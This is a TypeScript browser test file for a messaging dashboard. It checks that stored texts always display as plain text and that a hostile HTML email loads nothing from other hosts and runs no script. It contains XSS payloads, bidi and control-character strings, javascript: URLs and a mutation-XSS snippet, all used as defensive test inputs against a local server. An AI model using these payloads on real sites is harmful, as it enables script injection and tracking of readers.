// Hostile texts and emails in a user's browser. Every page that shows a stored text shows it as text. A displayed email
// contacts no other host and runs no code. Attacks that need no browser are in packages/server/src/dashboard/attacks.test.ts.

import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { schemas } from "@msgctl/contract/schemas";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { exampleProvisioning } from "../../packages/server/src/testing/provisioning-example.ts";
import { hasChromium, openContext } from "../browser/chromium.ts";
import { createPost, type Post } from "../e2e/create-post.ts";
import { MsgdFolder } from "../e2e/msgd-process.ts";
import { watchFaults } from "./pages.ts";

const MARKUP = `<img src=x onerror="document.documentElement.id='run'"><script>document.documentElement.id='run'</script><svg onload=alert(1)>`;
const HIDDEN = "\u202Eback\u2066\u200F";
const CONTROLS = "\u0007\u001B[31m\u009B\u0085";
/** Characters that no page may show. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern searches for them
const SHOWN_NEVER = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const LONGEST = 100_000;
const TO = "+12025550100";
const ADDRESS = "o'neil+{{7*7}}&`x`@example.com";

interface TextSchema {
  readonly type?: string;
  readonly pattern?: string;
  readonly format?: string;
  readonly enum?: unknown;
  readonly maxLength?: number;
}

/** The longest and most hostile text that the schema allows; undefined if the schema lists its values. */
function hostileText({ type, pattern = "", format, enum: words, maxLength = LONGEST }: TextSchema): string | undefined {
  const isFree = type === "string" && format === undefined && words === undefined && pattern.startsWith("^[^\\x00");
  if (!isFree) return undefined;
  const hidden = pattern.includes("\\x1f") || pattern.includes("\\n") ? HIDDEN : HIDDEN + CONTROLS;
  const text = hidden + MARKUP;
  return maxLength < text.length ? text.slice(0, maxLength) : text.padEnd(Math.min(maxLength, LONGEST), "x");
}

/** Hostile values for every free text of a request's body. */
function hostileTexts(name: string): Record<string, string> {
  const { properties } = schemas[name as keyof typeof schemas] as { properties: Record<string, TextSchema> };
  const texts = Object.entries(properties).flatMap(([field, schema]) => {
    const text = hostileText(schema);
    return text === undefined ? [] : [[field, text]];
  });
  return Object.fromEntries(texts);
}

const folder = new MsgdFolder();

let baseUrl: string;
let context: BrowserContext;
let page: Page;
let faults: string[];
let post: Post;
/** A server that must receive no request. */
let elsewhere: Server;
let other: string;
let arrived: string[];
let connected: number;

describe.runIf(hasChromium)("the dashboard in a browser", () => {
  beforeAll(async () => {
    elsewhere = createServer((request, response) => {
      arrived.push(String(request.url));
      request.resume().on("end", () => response.writeHead(500, { "x-answer": MARKUP }).end(MARKUP));
    });
    elsewhere.on("connection", () => {
      connected += 1;
    });
    await new Promise<void>((listening) => elsewhere.listen(0, "127.0.0.1", listening));
    other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    ({ baseUrl } = await folder.shareDemo());
    post = createPost(baseUrl, folder.demoCredential);
  });
  afterAll(async () => {
    await folder.remove();
    elsewhere?.close();
    elsewhere?.closeAllConnections();
  });

  beforeEach(async () => {
    await fetch(`${baseUrl}/control/reset`, { method: "POST" });
    [arrived, connected] = [[], 0];
    context = await openContext();
    page = await context.newPage();
    faults = watchFaults(page, baseUrl, [400, 404]);
  });
  afterEach(async () => {
    await context.close();
    expect(faults).toEqual([]);
  });

  async function call(path: string, body: object, more: Record<string, string> = {}): Promise<Record<string, string>> {
    const reply = await post(path, body, more);
    const text = await reply.text();
    expect(reply.status, text).toBeLessThan(300);
    return JSON.parse(text || "{}") as Record<string, string>;
  }
  const open = (path: string) => page.goto(`${baseUrl}/dashboard${path}`);

  /** Expects that the page shows hostile text only as text, and is no wider than its window. */
  async function expectText(where: string): Promise<void> {
    const found =
      "main :is(img, script, svg:not(.icon), object, embed, base, meta, form[action]), body > img, body > svg";
    expect([where, await page.locator(found).count()]).toEqual([where, 0]);
    const shown = await page.locator("body").innerText();
    expect([where, SHOWN_NEVER.exec(shown)?.[0]]).toEqual([where, undefined]);
    expect([where, await page.evaluate("document.documentElement.id")]).toEqual([where, ""]);
    for (const width of [390, 1_280]) {
      await page.setViewportSize({ width, height: 800 });
      const findWider = () =>
        page.evaluate(() => {
          const { scrollWidth, clientWidth } = document.documentElement;
          const isWider = (element: Element) => element.getBoundingClientRect().right > clientWidth + 1;
          return scrollWidth === clientWidth
            ? []
            : [...document.querySelectorAll("main *")].filter(isWider).map((each) => each.className || each.tagName);
        });
      await expect.poll(findWider, { message: `${where} at ${width} px` }).toEqual([]);
    }
  }

  it("shows every stored text as text, on every page", async () => {
    const merchantId = "demo";
    const agent = { "user-agent": MARKUP, "idempotency-key": MARKUP };
    const limits = { smsLimit: 100_000, emailLimit: 100_000, voiceMinutesLimit: 100_000 };
    await call("/api/v1/merchants", { ...hostileTexts("V1MerchantUpsertRequest"), merchantId, ...limits });
    const consent = { merchantId, channel: "SMS", contact: TO, status: "OPT_IN" };
    await call("/api/v1/consents", { ...hostileTexts("V1MerchantConsentRequest"), ...consent });
    for (const channel of ["VOICE", "EMAIL"]) {
      const contact = channel === "EMAIL" ? ADDRESS : TO;
      await call("/api/v1/consents", { ...hostileTexts("V1MerchantConsentRequest"), ...consent, channel, contact });
    }
    const to = { merchantId, type: "OTP" };
    const sms = await call("/api/v1/messages/sms", { ...hostileTexts("V1OmniSmsSendRequest"), ...to, to: TO }, agent);
    const voice = await call("/api/v1/messages/voice", { ...hostileTexts("V1OmniVoiceSendRequest"), ...to, to: TO });
    const mail = { ...hostileTexts("V1OmniEmailSendRequest"), ...to, to: ADDRESS };
    const html = await call("/api/v1/messages/email", mail);
    // plain text instead of HTML, which is not shown in a frame
    const plain = await call("/api/v1/messages/email", {
      ...mail,
      body: `<x>${HIDDEN}${CONTROLS}`.padEnd(LONGEST, "y"),
    });
    const speech = { ...hostileTexts("V1VoiceTtsCallRequest"), merchantId, toNumber: TO };
    const callbackUrl = `${other}/?q=<img>'"&x=javascript:alert(1)${"/long".repeat(100)}`.replaceAll(/[<>"]/g, escape);
    const { requestId, batchId } = await call("/api/v1/voice/tts-calls", { ...speech, callbackUrl });
    const registration = `/api/v1/merchants/${merchantId}/messaging`;
    await call(`${registration}/brand`, { ...hostileTexts("V1MerchantMessagingBrandRequest"), status: "APPROVED" });
    await call(`${registration}/campaign`, {
      ...hostileTexts("V1MerchantMessagingCampaignRequest"),
      ...{ useCase: "CUSTOMER_CARE", reviewStatus: "TCR_FAILED", sampleMessages: [HIDDEN + MARKUP, MARKUP] },
      ...{ optInKeywords: [MARKUP.slice(0, 60)], optOutKeywords: ["STOP"], helpKeywords: ["HELP"] },
    });
    const number = { phoneNumber: "+12025550142", capabilities: ["SMS"] };
    await call(`${registration}/numbers`, { ...hostileTexts("V1MerchantPhoneNumberRequest"), ...number });
    await provision();
    await fetch(`${baseUrl}/control/clock`, {
      ...{ method: "POST", headers: { "content-type": "application/json" } },
      body: JSON.stringify({ advance: "24h" }),
    });
    await expect.poll(() => arrived.length).toBeGreaterThan(0);
    // this request is refused, and the reply quotes its values
    for (const field of ["to", "type", "merchantId", MARKUP]) {
      await (await post("/api/v1/messages/sms", { ...to, to: TO, message: "x", [field]: HIDDEN + MARKUP })).text();
    }
    await (await fetch(`${baseUrl}/api/v1/${MARKUP}${encodeURIComponent(HIDDEN)}`)).text();

    await open("/callbacks");
    await page.locator(".rows .row").first().waitFor();
    const webhook = await page.locator(".rows .row .open").first().getAttribute("href");
    const shown: readonly (readonly [path: string, appears: string])[] = [
      ["/messages", ".rows .row"],
      [
        `/messages?q=${encodeURIComponent(`"${MARKUP.replaceAll('"', "")}"`)}`,
        "main :is(.row, [role=alert], .nothing)",
      ],
      ...[sms, voice, plain].map(({ messageId }) => [`/messages/${messageId}`, ".content"] as const),
      [`/messages/${html.messageId}`, "iframe.mail"],
      [`/messages?open=${sms.messageId}`, ".opened .content"],
      ["/merchants", ".rows .row"],
      [`/merchants/${merchantId}`, ".rows .row"],
      [`/recipients/${encodeURIComponent(TO)}`, "tbody tr"],
      [`/recipients/${encodeURIComponent(ADDRESS)}`, "tbody tr"],
      ["/overview", ".plot, .entry"],
      ["/requests", ".rows .row"],
      ["/requests?outcome=failed", ".rows .row"],
      ["/callbacks", ".rows .row"],
      [webhook?.slice("/dashboard".length) ?? "", ".content"],
      ["/calls", ".rows .row"],
      [`/calls/${requestId}`, ".facts"],
      [`/calls/batches/${batchId}`, ".rows .row"],
      ["/registration?merchant=demo", "tbody tr"],
      ["/voice", "tbody tr"],
      ["/health", ".facts"],
      ["/simulator", ".panel"],
      [`/messages/${encodeURIComponent(MARKUP)}`, "[role=alert]"],
      [`/recipients/${encodeURIComponent(HIDDEN + MARKUP)}`, "[role=alert]"],
      [`/calls/batches/${encodeURIComponent(HIDDEN + MARKUP)}`, "[role=alert]"],
      [`/${encodeURIComponent(MARKUP)}`, "h1:text('Nothing here')"],
    ];
    // these pages show no free text at first: their rows show only codes, and their forms only ids
    const silent = ["/requests", "/requests?outcome=failed", "/callbacks", "/health", "/simulator"];
    // these pages only say that something was not found
    silent.push(`/messages/${encodeURIComponent(MARKUP)}`, `/${encodeURIComponent(MARKUP)}`);
    for (const [path, appears] of shown) {
      await open(path);
      await page.locator(appears).first().waitFor();
      for (const summary of await page.locator("summary").all()) await summary.click();
      const tells = async () => (await page.locator("main").innerText()).includes("‹U+202E›");
      await expect.poll(tells, { message: path }).toBe(!silent.includes(path));
      await expectText(path);
    }
    await open("/requests?outcome=failed");
    await page.locator(".rows .row").first().waitFor();
    for (const row of await page.locator(".rows .row").all()) {
      await row.click();
      await page.getByRole("dialog").getByText(/^req_/).waitFor();
      await expectText("a request");
      await page.keyboard.press("Escape");
    }
    // the browser reports each action of the email's frame that it blocked
    const kept = faults.splice(0);
    expect(kept.filter((fault) => !/\/dashboard\/mail\/.*(?:sandboxed|Content Security Policy)/.test(fault))).toEqual(
      [],
    );
  });

  async function provision(): Promise<void> {
    const tenantId = folder.demoCredential.tenantId;
    const texts = /^(?:name|label|displayName|greetingText|description)$/;
    const hostile = JSON.stringify(exampleProvisioning(Number(tenantId)), (key, value) =>
      texts.test(key) && typeof value === "string" ? `${HIDDEN}${MARKUP}` : value,
    );
    const file = join(folder.parent, "provisioning.json");
    writeFileSync(file, hostile, { mode: 0o600 });
    await folder.run("provisioning", "import", file, "--tenant", tenantId);
  }

  it("shows a hostile email, which contacts no other host and runs no code", async () => {
    const body = `<!doctype html><html><head>
      <base href="${other}/base/"><meta http-equiv="refresh" content="0; url=${other}/refresh">
      <link rel="stylesheet" href="${other}/style.css"><link rel="preconnect" href="${other}"><link rel="icon" href="${other}/icon">
      <link rel="prefetch" href="${other}/prefetch"><link rel="preload" as="image" href="${other}/preload">
      <style>@import url("${other}/import.css"); @font-face { font-family: f; src: url("${other}/font") }
        p { font-family: f; background: url("${other}/background") } </style>
      <script>parent.document.documentElement.id = "run"; top.location = "${other}/script"</script><script src="${other}/script.js"></script>
      </head><body onload="parent.document.documentElement.id = 'run'" background="${other}/body">
      <p>Thank you</p><img alt="picture" src="${other}/picture.png"><img alt="set" srcset="${other}/set.png 2x">
      <picture><source srcset="${other}/source.png"><img alt="broken" src="x" onerror="parent.document.documentElement.id = 'run'"></picture>
      <svg onload="parent.document.documentElement.id = 'run'"><image href="${other}/svg.png"/><script>parent.document.documentElement.id = "run"</script>
        <use href="${other}/use.svg#x"/></svg>
      <iframe src="${other}/frame"></iframe><iframe srcdoc="<script>top.document.documentElement.id='run'</script>"></iframe>
      <object data="${other}/object"></object><embed src="${other}/embed"><video src="${other}/video" poster="${other}/poster"></video>
      <audio src="${other}/audio" autoplay></audio><input type="image" src="${other}/input" alt="input">
      <a href="javascript:parent.document.documentElement.id='run'">run this</a><a href="${other}/link" ping="${other}/ping">go there</a>
      <a href="${other}/top" target="_top">leave</a><a href="${other}/blank" target="_blank">open</a>
      <form action="${other}/form" method="post"><button>Send it</button></form>
      <button form="f" formaction="javascript:alert(1)">Or this</button><form id="f"></form>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;" alt="math"></table></math>
      </body></html>`;
    const mail = {
      merchantId: "demo",
      type: "TRANSACTIONAL",
      to: "delivered@simulator.example",
      subject: "Hello",
      body,
    };
    const { messageId } = await call("/api/v1/messages/email", mail);
    const opened: string[] = [];
    page.context().on("page", (popup) => opened.push(popup.url()));
    await open(`/messages/${messageId}`);
    const frame = page.frameLocator("iframe.mail");
    await frame.getByText("Thank you").waitFor();
    // even a preconnect would reveal to the other host that the email is being read
    expect(connected).toBe(0);
    // reload the page before each click: after a followed link, the frame would be empty
    for (const text of ["run this", "go there", "leave", "open", "Send it", "Or this"]) {
      await page.reload();
      await frame.getByText(text, { exact: true }).click();
    }
    expect(arrived).toEqual([]);
    // only pictures may load: any other request would have arrived before them
    await page.reload();
    await page.getByRole("button", { name: "Load pictures from other hosts" }).click();
    await expect.poll(() => arrived).toContain("/picture.png");
    const pictures = [
      "/picture.png",
      "/set.png",
      "/source.png",
      "/svg.png",
      "/background",
      "/body",
      "/poster",
      "/input",
    ];
    expect(arrived.filter((path) => !pictures.includes(path))).toEqual([]);
    expect([await page.evaluate("document.documentElement.id"), new URL(page.url()).origin, opened]).toEqual([
      "",
      baseUrl,
      [],
    ]);
    await page.close();
    // the browser reports each action of the frame that it blocked
    const told = faults.splice(0);
    expect(
      told.filter(
        (fault) =>
          !fault.startsWith(other) && !/sandbox|Content Security Policy|Unsafe attempt|status of 500/.test(fault),
      ),
    ).toEqual([]);
  });
});
